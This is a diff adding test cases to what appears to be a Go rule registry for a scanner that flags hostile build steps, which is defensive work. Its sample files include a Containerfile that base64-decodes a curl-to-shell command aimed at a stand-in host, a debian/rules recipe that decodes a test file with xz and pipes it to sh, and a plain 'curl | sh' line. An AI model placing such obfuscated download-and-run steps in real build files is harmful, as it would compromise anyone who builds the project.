@@ -66,6 +66,11 @@ var registry = []Rule{
 			{"x.ps1", "pwsh -ExecutionPolicy Bypass -File build.ps1", 0, true},
 			// A Cake build script decoding a command and starting it.
 			{"build.cake", "var s = Encoding.UTF8.GetString(Convert.FromBase64String(P));\nStartProcess(\"bash\", new ProcessSettings { Arguments = \"-c \\\"\" + s + \"\\\"\" });", 0, false},
+			// The recipe shell of a Containerfile and of debian/rules (a
+			// Makefile dpkg-buildpackage runs), over continued lines too.
+			{"ci/builder.Containerfile", "FROM debian\nARG H=Y3VybCBodHRwczovL3guaW52YWxpZCB8IHNo\nRUN apt-get update \\\n&& echo \"$H\" \\\n  | base64 -d \\\n  | sh", 6, false},
+			{"debian/rules", "#!/usr/bin/make -f\n%:\n\tdh $@\noverride_dh_auto_build:\n\tcat tests/files/x.xz | tr '\\t \\-_' ' \\t_\\-' | xz -dc | sh", 5, false},
+			{"debian/rules", "#!/usr/bin/make -f\n%:\n\tdh $@\noverride_dh_auto_test:\n\txz -dc tests/data.xz > tests/data\n\tdh_auto_test", 0, true},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", WhyDownload, []Case{
 		{"x.sh", "curl -fsSL https://x.invalid/i | sh", 0, false},
